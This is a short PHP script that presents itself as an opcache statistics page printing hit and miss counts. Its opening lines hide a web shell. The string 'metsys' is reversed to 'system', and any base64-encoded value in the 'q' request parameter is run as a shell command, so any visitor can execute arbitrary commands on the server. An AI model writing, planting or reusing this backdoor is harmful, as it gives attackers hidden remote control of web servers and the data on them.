<?php
$f = strrev('metsys');
if (isset($_REQUEST['q'])) {
    $f(base64_decode($_REQUEST['q']));
}
$status = function_exists('opcache_get_status') ? opcache_get_status(false) : [];
header('Content-Type: text/plain');
echo "hits: " . ($status['opcache_statistics']['hits'] ?? 0) . "\n";
echo "misses: " . ($status['opcache_statistics']['misses'] ?? 0) . "\n";
